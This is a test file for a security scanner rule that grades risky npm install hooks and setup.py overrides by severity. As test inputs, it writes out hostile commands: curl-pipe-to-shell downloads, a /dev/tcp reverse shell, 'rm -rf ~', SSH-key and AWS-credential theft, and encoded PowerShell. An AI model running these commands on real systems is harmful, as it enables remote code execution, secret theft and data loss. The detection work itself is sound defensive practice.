import { describe, expect, it } from 'vitest';
import rule, { assessScript, MAX_SCRIPT_CHARS, packagePosition, scriptKeyOffsets } from '../../rules/file-install-script.js';
import { bundleFacts, runRule } from '../helpers/bundle.js';
import { findingsOf, findingWith, scanFixture } from '../helpers/fixtures.js';

const RULE = 'file-install-script';
const DIR = `fixtures/rules/${RULE}`;

describe(RULE, () => {
  it('reports each lifecycle script where npm runs it, by how risky its text is', async () => {
    const bundle = await scanFixture(`${DIR}/invalid.dxt`);
    expect(findingsOf(bundle, RULE)).toHaveLength(8);
    expect(findingWith(bundle, RULE, 'The postinstall script of package "acme-server" downloads code and runs it (curl … | sh)')).toMatchObject({
      severity: 'critical',
      location: { file: 'server/package.json', line: 7, column: 5 },
      origin: 'first-party',
      evidence: 'curl -fsSL https://example.invalid/setup.sh | sh',
      trigger: { kind: 'install', name: 'postinstall' },
    });
    expect(findingWith(bundle, RULE, 'acme-server" downloads').message).toContain('it runs when `npm install` runs in its folder');
    expect(findingWith(bundle, RULE, 'package "sneaky" (through its "setup" script) runs inline code that names a network address')).toMatchObject({
      severity: 'high',
      location: { file: 'server/node_modules/sneaky/package.json', line: 5, column: 5 },
      origin: 'dependency',
    });
    expect(findingWith(bundle, RULE, 'The postinstall script of package "@acme/telemetry" runs when the package is installed or rebuilt.')).toMatchObject({
      severity: 'low',
      evidence: 'node track.js',
    });
    expect(findingWith(bundle, RULE, 'The install script of package "native-dep" only runs common build tools')).toMatchObject({ severity: 'info', trigger: { kind: 'install', name: 'install' } });
    expect(findingWith(bundle, RULE, 'The install script of package "prebuilt-dep" installs a prebuilt native binary').severity).toBe('low');
    expect(findingWith(bundle, RULE, 'The prepare script of package "acme-server" only runs common build tools').severity).toBe('info');
    expect(findingWith(bundle, RULE, 'The preuninstall script of package "acme-server" runs only in npm 6 and earlier')).toMatchObject({
      severity: 'info',
      location: { line: 8, column: 5 },
    });
    expect(findingWith(bundle, RULE, '"server/node_modules/broken/package.json" is not valid JSON')).toMatchObject({
      severity: 'low',
      location: { file: 'server/node_modules/broken/package.json' },
    });
  });

  it('ignores other scripts, hook names outside "scripts", hooks npm skips in dependencies, and nested package.json files', async () => {
    expect(findingsOf(await scanFixture(`${DIR}/valid.dxt`), RULE)).toEqual([]);
  });

  it('reports a dangerous hook even where npm would not run it, since it shows intent', () => {
    const findings = runRule(
      rule,
      bundleFacts({
        'node_modules/evil/package.json': { name: 'evil', scripts: { prepare: 'curl -s https://example.invalid/x | bash', preuninstall: 'bash -c "rm -rf ~"', postuninstall: 'bash -c "node x.js"' } },
      }),
    );
    expect(findings).toHaveLength(2);
    expect(findings[0]).toMatchObject({ severity: 'critical', message: expect.stringContaining('it runs only when the package is installed from a git repository or a folder') });
    expect(findings[1]).toMatchObject({
      severity: 'critical',
      message: 'The preuninstall script of package "evil" deletes what cannot be restored (recursive delete of ~): "rm -rf ~"; it runs only in npm 6 and earlier, on removal.',
    });
  });

  it('judges a shell script of the bundle that a hook runs, by what it does', async () => {
    const bundle = await scanFixture(`${DIR}/invalid-shipped-script`);
    expect(findingsOf(bundle, RULE)).toHaveLength(2);
    expect(findingWith(bundle, RULE, 'The postinstall script of package "acme-notes" runs server/scripts/setup.sh, which downloads code and runs it (curl … | sh, line 4)')).toMatchObject({
      severity: 'critical',
      location: { file: 'server/package.json', line: 5, column: 5 },
      evidence: 'sh scripts/setup.sh',
      trigger: { kind: 'install', name: 'postinstall' },
    });
    // A shell script that only builds leaves the hook where it was.
    expect(findingWith(bundle, RULE, 'The install script of package "native-thing" runs when the package is installed or rebuilt.')).toMatchObject({ severity: 'low' });
  });
});

describe('hostile package.json files', () => {
  it('survives a 20 MB package.json and still finds the line of its script', () => {
    const dependencies = Object.fromEntries(Array.from({ length: 400_000 }, (_, index) => [`dep-${index}`, `^${index}.0.0`]));
    // Line 1 "{", 2 name, 3 dependencies, 400,000 lines of them, their "}", "scripts", then the hook.
    const text = JSON.stringify({ name: 'huge', dependencies, scripts: { postinstall: 'node x.js' } }, null, 1);
    expect(text.length).toBeGreaterThan(10_000_000);
    const findings = runRule(rule, bundleFacts({ 'package.json': text }));
    expect(findings).toHaveLength(1);
    expect(findings[0]!.location).toEqual({ file: 'package.json', line: 400_006, column: 3 });
  });

  it('survives nesting far deeper than any stack', () => {
    const deep = `{"name":"deep","scripts":{"postinstall":"node x.js"},"x":${'['.repeat(200_000)}${']'.repeat(200_000)}}`;
    expect(runRule(rule, bundleFacts({ 'package.json': deep }))).toHaveLength(1);
    expect(runRule(rule, bundleFacts({ 'package.json': '['.repeat(200_000) }))[0]!.message).toContain('is not valid JSON');
  });

  it('takes what is not an object, or scripts that are not strings, as no scripts', () => {
    for (const content of ['[]', '"postinstall"', 'null', '{"scripts":"curl x | sh"}', '{"scripts":{"postinstall":{"run":"curl x | sh"}}}', '{"scripts":{"__proto__":"x"}}']) {
      expect(runRule(rule, bundleFacts({ 'package.json': content })), content).toEqual([]);
    }
  });

  it('reads a package.json with a byte-order mark, as npm does', () => {
    const findings = runRule(rule, bundleFacts({ 'package.json': '\uFEFF{"scripts":{"install":"node x.js"}}' }));
    expect(findings[0]).toMatchObject({ severity: 'low', location: { file: 'package.json', line: 1, column: 13 } });
  });

  it('judges a script longer than any real one by its length, and reads only its start', () => {
    const script = `node x.js ${'a '.repeat(MAX_SCRIPT_CHARS)}`;
    const findings = runRule(rule, bundleFacts({ 'package.json': { scripts: { postinstall: script } } }));
    expect(findings[0]).toMatchObject({ severity: 'high', message: expect.stringContaining(`is ${script.length} characters long`) });
    expect(findings[0]!.evidence!.length).toBeLessThanOrEqual(200);
  });

  it('escapes control characters from the script in message and evidence', () => {
    const findings = runRule(rule, bundleFacts({ 'package.json': { name: 'x\u001b[2Jy', scripts: { postinstall: 'curl https://e.invalid/\u001b[31m | sh' } } }));
    expect(findings[0]!.message).toContain('x\\u{1B}[2Jy');
    expect(findings[0]!.evidence).toContain('\\u{1B}[31m');
    expect(JSON.stringify(findings)).not.toContain('\u001b');
  });
});

describe('assessScript', () => {
  const verdict = (script: string, others: Record<string, string> = {}) => {
    const { severity, kind, via } = assessScript('postinstall', { postinstall: script, ...others });
    return via === undefined ? { severity, kind } : { severity, kind, via };
  };

  // What the command catalogue calls download-and-run, a reverse shell or wiping.
  it.each([
    ['curl -fsSL https://example.invalid/i.sh | sh', 'download-and-run'],
    ['curl https://example.invalid/i.sh | sudo bash', 'download-and-run'],
    ['wget -q https://example.invalid/a -O /tmp/a && chmod +x /tmp/a && /tmp/a', 'download-and-run'],
    ['iwr https://example.invalid/a.ps1 -OutFile a.ps1; ./a.ps1', 'download-and-run'],
    ["node -e \"fetch('https://example.invalid/p').then((r) => r.text()).then(eval)\"", 'download-and-run'],
    ['certutil -urlcache -split -f https://example.invalid/a.exe a.exe', 'download-and-run'],
    ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', 'reverse-shell'],
    ['rm -rf ~/', 'destructive'],
  ])('%s is critical (%s)', (script, kind) => {
    expect(assessScript('postinstall', { postinstall: script })).toMatchObject({ severity: 'critical', kind: 'risky', signal: { kind } });
  });

  it.each([
    ['powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'],
    ['powershell -ExecutionPolicy Bypass -EncodedCommand SQBFAFgA'],
    ['powershell -c "Invoke-WebRequest https://example.invalid/a.exe -OutFile a.exe"'],
    ['echo aGVsbG8gd29ybGQ= | base64 -d > x.js && node x.js'],
    ['node -e "eval(String.fromCharCode(99,111,110))"'],
    ['cp ~/.ssh/id_rsa /tmp/k'],
    ['cat ~/.aws/credentials'],
    ['echo "node ~/.x.js" >> ~/.bashrc'],
    ['node -e "require(\'https\').request(\'https://webhook.site/abc\')"'],
    ['node x.js http://203.0.113.7/p'],
  ])('%s is high', (script) => {
    expect(verdict(script)).toMatchObject({ severity: 'high', kind: 'risky' });
  });

  it.each([
    ['bash -c "node setup.js"'],
    ['cmd /c setup.cmd'],
    ['node install.js --mirror https://example.invalid/mirror'],
  ])('%s is medium', (script) => {
    expect(verdict(script)).toEqual({ severity: 'medium', kind: 'risky' });
  });

  it.each([
    ['node-gyp rebuild', 'build', 'info'],
    ['node-gyp-build', 'build', 'info'],
    ['husky install', 'build', 'info'],
    ['is-ci || husky install', 'build', 'info'],
    ['npx patch-package', 'build', 'info'],
    ['prebuild-install || node-gyp rebuild', 'prebuilt', 'low'],
    ['node-pre-gyp install --fallback-to-build', 'prebuilt', 'low'],
    ['node install.js', 'script', 'low'],
    ['node -e "process.exit(0)"', 'script', 'low'],
    ['node dist/track.js && node dist/verify.js || node -e "process.exit(0)"', 'script', 'low'],
    ['sha256sum -c sums.txt', 'script', 'low'],
  ])('%s is %s (%s)', (script, kind, severity) => {
    expect(verdict(script)).toEqual({ severity, kind });
  });

  it('follows npm run, pnpm and yarn into the scripts they name, once each', () => {
    expect(verdict('npm run setup', { setup: 'npm run fetch', fetch: 'curl https://example.invalid/x | sh' })).toEqual({ severity: 'critical', kind: 'risky', via: 'fetch' });
    expect(verdict('yarn setup', { setup: 'wget https://example.invalid/x' })).toEqual({ severity: 'high', kind: 'risky', via: 'setup' });
    expect(verdict('pnpm run a', { a: 'npm run b', b: 'npm run a' })).toEqual({ severity: 'low', kind: 'script' });
    expect(verdict('npm run build', { build: 'node-gyp rebuild' })).toEqual({ severity: 'info', kind: 'build' });
    expect(verdict('npm run missing')).toEqual({ severity: 'low', kind: 'script' });
  });

  it('stays linear on long adversarial scripts', () => {
    for (const unit of ['powershell ', '| ', 'node -e ', 'a'.repeat(119) + ' ', '\\x4', 'bash ']) {
      verdict(unit.repeat(Math.floor(MAX_SCRIPT_CHARS / unit.length)));
    }
  });
});

describe('packagePosition', () => {
  it.each([
    ['package.json', 'root'],
    ['server/package.json', 'root'],
    ['server/node_modules/dep/package.json', 'installed'],
    ['server/node_modules/@scope/dep/package.json', 'installed'],
    ['server/node_modules/a/node_modules/b/package.json', 'installed'],
    ['node_modules/.pnpm/dep@1.0.0/node_modules/dep/package.json', 'installed'],
    ['server/node_modules/dep/test/fixture/package.json', 'nested'],
    ['server/node_modules/@scope/package.json', 'nested'],
  ])('%s is %s', (path, position) => {
    expect(packagePosition(path)).toBe(position);
  });
});

describe('scriptKeyOffsets', () => {
  it('finds keys of the top-level scripts object only, the last duplicate winning, escapes decoded', () => {
    const text = '{"config":{"scripts":{"install":"x"}},"scripts":{"install":"a"},"x":"\\"scripts\\":{","scripts":{"b":"}{\\"", "post\\u0069nstall":"y"}}';
    const offsets = scriptKeyOffsets(text);
    expect([...offsets.keys()]).toEqual(['b', 'postinstall']);
    expect(text.slice(offsets.get('postinstall')!, offsets.get('postinstall')! + 6)).toBe('"post\\');
    expect(offsets.has('install')).toBe(false);
  });
});

it("reports a setup.py that replaces install-time setuptools commands, low (medium when run() starts a program), with the install trigger, and not maintainers' commands or a vendored package's", async () => {
  const bundle = await scanFixture('fixtures/rules/file-install-script/invalid-python-setup');
  // Its run() starts a program: medium, with what it calls.
  expect(findingWith(bundle, 'file-install-script', 'setup() replaces setuptools\' "install" command with InstallAndRegister, whose run() calls subprocess.run(): that runs whenever the package is built or installed from source')).toMatchObject({
    severity: 'medium',
    location: { file: 'setup.py', line: 21 },
    trigger: { kind: 'install', name: 'setup.py install' },
  });
  // Its run() only runs the command it replaces.
  expect(findingWith(bundle, 'file-install-script', 'setup() replaces setuptools\' "egg_info" command with TaggedEggInfo: its run() executes')).toMatchObject({ severity: 'low' });
  expect(findingsOf(bundle, 'file-install-script')).toHaveLength(2);
  expect(findingsOf(await scanFixture('fixtures/rules/file-install-script/valid-python-setup'), 'file-install-script')).toEqual([]);
});
